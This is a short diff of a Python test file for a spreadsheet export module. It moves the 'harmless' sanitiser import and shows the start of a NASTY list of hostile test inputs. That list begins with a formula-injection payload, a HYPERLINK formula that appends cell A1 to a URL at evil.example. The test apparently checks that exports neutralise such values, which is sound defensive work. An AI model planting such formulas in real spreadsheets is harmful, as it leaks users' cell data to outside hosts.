@@ -10,8 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nastavnik.bank.review.spreadsheets import Worksheet, replacing, write_csv, write_xlsx
-from nastavnik.text.csv_table import harmless
+from nastavnik.bank.review.spreadsheets import Worksheet, harmless, replacing, write_csv, write_xlsx
 
 NASTY = [
     '=HYPERLINK("http://evil.example/"&A1;"нажми")',
